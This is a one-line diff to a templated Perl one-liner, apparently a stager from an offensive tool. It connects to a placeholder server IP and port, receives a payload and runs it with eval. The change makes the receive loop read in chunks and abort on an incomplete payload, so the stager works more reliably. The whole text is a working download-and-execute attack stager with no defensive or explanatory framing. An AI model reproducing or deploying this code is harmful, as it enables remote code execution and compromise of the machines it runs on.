@@ -1 +1 @@
-perl -MSocket -e '$host = "{{SERVER_IP}}"; $port = {{SERVER_PORT}}; $len = {{PAYLOAD_SIZE}}; $iaddr = inet_aton($host); $paddr = sockaddr_in($port, $iaddr); $proto = getprotobyname("tcp"); socket($s, PF_INET, SOCK_STREAM, $proto); connect($s, $paddr); $buff = ""; $chnk = ""; for ($i=0; $i < $len; $i++) {$b = recv($s, $chnk, 1, 0); $buff .= $chnk;} close($s); eval($buff);'
+perl -MSocket -e '$host = "{{SERVER_IP}}"; $port = {{SERVER_PORT}}; $len = {{PAYLOAD_SIZE}}; $iaddr = inet_aton($host); $paddr = sockaddr_in($port, $iaddr); $proto = getprotobyname("tcp"); socket($s, PF_INET, SOCK_STREAM, $proto); connect($s, $paddr); $buff = ""; $chnk = ""; while (length($buff) < $len) {defined(recv($s, $chnk, $len - length($buff), 0)) && length($chnk) or last; $buff .= $chnk;} close($s); length($buff) == $len ? eval($buff) : die("Incomplete payload\n");'